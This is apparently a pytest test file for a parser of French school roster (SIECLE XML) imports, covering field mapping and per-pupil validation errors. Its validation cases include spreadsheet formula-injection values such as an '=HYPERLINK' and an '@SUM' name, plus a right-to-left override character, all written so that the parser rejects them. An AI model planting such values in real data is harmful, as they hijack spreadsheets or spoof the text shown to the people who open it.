        [eleve("1")], [structures("1", ("3LATIN", "G"), ("Inactifs", "D"), ("3E 2", "D"))]
    )
    assert parse_roster(content, XML).students[0].division == "3E 2"


# --- Field mapping -------------------------------------------------------------------------


def test_files_from_before_2016_use_nom() -> None:
    roster = one_pupil(nom="DURAND", nom_element="NOM")
    assert roster.students[0].last_name == "DURAND"


def test_nom_de_famille_wins_over_nom_usage() -> None:
    roster = one_pupil(nom="ROUSSEL--DA COSTA", extra="<NOM_USAGE>ROUSSEL</NOM_USAGE>")
    assert roster.students[0].last_name == "ROUSSEL--DA COSTA"


@pytest.mark.parametrize("ine", ["", "   "])
def test_a_pupil_without_ine_is_imported_without_one(ine: str) -> None:
    assert one_pupil(ine=ine).students[0].national_student_id is None


def test_a_pupil_without_id_national_element_is_imported_without_ine() -> None:
    content = siecle_xml(
        [eleve("1").replace("<ID_NATIONAL>0000000001A</ID_NATIONAL>", "")], [division("1")]
    )
    assert "ID_NATIONAL" not in content.decode("iso8859-15")
    assert parse_roster(content, XML).students[0].national_student_id is None


def test_the_uaj_is_trimmed_and_optional() -> None:
    assert (
        parse_roster(siecle_xml([eleve("1")], [division("1")], uai=" 0999999Z "), XML).uai
        == "0999999Z"
    )
    assert parse_roster(siecle_xml([eleve("1")], [division("1")], uai=None), XML).uai is None


def test_values_are_trimmed_and_inner_spaces_collapsed_keeping_case_and_accents() -> None:
    roster = one_pupil(
        nom="  DE   LA FONTAINE ", prenom=" Marie-Hélène  ", date_naiss=" 05/11/2010 "
    )
    student = roster.students[0]
    assert (student.last_name, student.first_name, student.birthdate) == (
        "DE LA FONTAINE",
        "Marie-Hélène",
        date(2010, 11, 5),
    )


def test_a_pupil_born_abroad_gets_the_country_name_and_the_town() -> None:
    student = one_pupil(pays="352", ville="ORAN", commune=None).students[0]
    assert (student.birth_country_code, student.birth_country, student.birth_city) == (
        "352",
        "Algérie",
        "ORAN",
    )
    assert student.birth_city_code is None


def test_an_unknown_country_code_keeps_the_code_without_a_name() -> None:
    student = one_pupil(pays="999", commune=None).students[0]
    assert (student.birth_country_code, student.birth_country) == ("999", None)


@pytest.mark.parametrize(("code", "sex"), [("1", Sex.M), ("2", Sex.F), ("", None), (None, None)])
def test_code_sexe(code: str | None, sex: Sex | None) -> None:
    assert one_pupil(sexe=code).students[0].sex is sex


# --- Per-pupil errors ----------------------------------------------------------------------


def test_a_pupil_with_an_impossible_birthdate_is_reported_and_the_others_imported() -> None:
    content = siecle_xml(
        [eleve("9000101"), eleve("9000102"), eleve("9000103", date_naiss="31/02/2010")],
        [division("9000101"), division("9000102"), division("9000103")],
    )
    roster = parse_roster(content, XML)
    assert [s.line for s in roster.students] == [1, 2]
    assert roster.errors == [
        RosterLineError(
            line=3,
            code="INVALID_BIRTHDATE",
            message="Élève n° 3 (ELEVE_ID 9000103) : la date de naissance « 31/02/2010 » "
            "n'est pas valide (format attendu jj/mm/aaaa).",
        )
    ]


@pytest.mark.parametrize(
    ("fields", "code", "message_end"),
    [
        ({"nom": None}, "REQUIRED_FIELD", "le nom de famille est obligatoire."),
        ({"nom": "  "}, "REQUIRED_FIELD", "le nom de famille est obligatoire."),
        ({"prenom": None}, "REQUIRED_FIELD", "le prénom est obligatoire."),
        ({"date_naiss": None}, "REQUIRED_FIELD", "la date de naissance est obligatoire."),
        ({"date_naiss": "2010-03-12"}, "INVALID_BIRTHDATE", "(format attendu jj/mm/aaaa)."),
        ({"date_naiss": "12/03/1850"}, "INVALID_BIRTHDATE", "(année antérieure à 1900)."),
        (
            {"sexe": "3"},
            "INVALID_SEX",
            "n'est pas valide (valeurs acceptées : 1 pour masculin, 2 pour féminin).",
        ),
        ({"nom": "=HYPERLINK(&quot;http://x&quot;)"}, "INVALID_NAME", "(formule)."),
        ({"prenom": "@SUM(A1)"}, "INVALID_NAME", "(formule)."),
        ({"prenom": "Lu&#x202E;cas"}, "INVALID_NAME", "caractères de contrôle ou invisibles."),
        ({"nom": "A" * 101}, "INVALID_NAME", "dépasse 100 caractères."),
        ({"ine": "123"}, "INVALID_INE", "(11 caractères, chiffres et lettres)."),
        ({"commune": "LYON"}, "INVALID_BIRTH_CITY_CODE", "(5 caractères)."),
        ({"pays": "FR"}, "INVALID_BIRTH_COUNTRY_CODE", "commençant par 99)."),
    ],
)
def test_per_pupil_errors(fields: EleveFields, code: str, message_end: str) -> None:
    roster = one_pupil(**fields)
    assert roster.students == []
    [error] = roster.errors
    assert (error.line, error.code) == (1, code)
    assert error.message.startswith("Élève n° 1 (ELEVE_ID 9000101) : ")
    assert error.message.endswith(message_end)


def test_a_division_longer_than_40_characters_is_an_error() -> None:
    content = siecle_xml([eleve("1")], [division("1", "3" * 41)])
    [error] = parse_roster(content, XML).errors
    assert error.code == "INVALID_DIVISION"


def test_the_same_ine_twice_is_an_error_on_the_later_pupil() -> None:
    content = siecle_xml(
        [eleve("1", ine="1234567890A"), eleve("2", ine="1234567890a", prenom="Zoé"), eleve("3")],
        [division("1"), division("2"), division("3")],
    )
    roster = parse_roster(content, XML)
    assert [s.line for s in roster.students] == [1, 3]
    assert roster.errors == [
        RosterLineError(
            line=2,
            code="DUPLICATE_INE",
            message="Élève n° 2 (ELEVE_ID 2) : l'INE 1234567890A figure déjà pour l'élève n° 1.",
        )
    ]


def test_an_eleve_id_twice_or_missing_is_an_error() -> None:
    without_id = eleve("3").replace('ELEVE_ID="3" ', "")
    content = siecle_xml([eleve("1"), eleve("1", ine="2222222222B"), without_id], [division("1")])
    roster = parse_roster(content, XML)
    assert [s.line for s in roster.students] == [1]
    assert [(e.line, e.code) for e in roster.errors] == [
        (2, "DUPLICATE_ELEVE_ID"),
        (3, "REQUIRED_FIELD"),
    ]


def test_all_the_problems_of_a_pupil_are_reported() -> None:
    roster = one_pupil(nom=None, date_naiss="99/99/2010", sexe="X")
    assert [e.code for e in roster.errors] == ["REQUIRED_FIELD", "INVALID_BIRTHDATE", "INVALID_SEX"]


def test_unsupported_media_types_are_refused() -> None:
    for media_type in ("application/pdf", "application/json", "text/plain", ""):
        rejected(sample_bytes(), media_type, code="UNSUPPORTED_ROSTER_TYPE")
